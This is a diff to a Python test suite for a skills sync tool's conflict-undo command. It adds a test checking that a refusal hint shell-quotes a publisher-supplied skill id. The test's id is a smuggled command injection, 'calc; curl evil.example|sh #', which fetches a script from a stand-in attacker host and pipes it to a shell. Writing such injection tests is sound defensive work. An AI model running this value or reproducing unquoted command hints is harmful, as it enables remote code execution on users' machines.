@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import os
 import pwd
+import shlex
 import sys
 from pathlib import Path
 from typing import Any
@@ -349,6 +350,18 @@ def test_undo_does_not_lose_a_later_edit(machine: Machine, conflicts: list[str])
     run_json(machine, "conflicts", "resolve", "1", "--strategy", "remote_wins")
     machine.edit(conflicts[0], code="later")
     assert "would lose that" in refused(machine, "conflicts", "undo", "1")
+
+
+def test_a_hint_is_no_shell_command_of_the_publisher_s(machine: Machine) -> None:
+    odd = "calc; curl evil.example|sh #"
+    machine.sandbox.put_skill({"skill_id": odd, "name": "Calc", "code": "a"}, push=False)
+    machine.pull()
+    machine.edit(odd, code="mine")
+    machine.sandbox.patch_skill(odd, {"code": "b"}, push=False)
+    machine.pull(strategy="remote_wins")
+    machine.edit(odd, code="later")
+    hint = refused(machine, "conflicts", "undo", "1")
+    assert f"`atom-sync skills diff {shlex.quote(odd)}`" in hint
 
 
 def test_a_newer_version_after_the_resolution_does_not_stop_undo(machine: Machine, conflicts: list[str]) -> None:
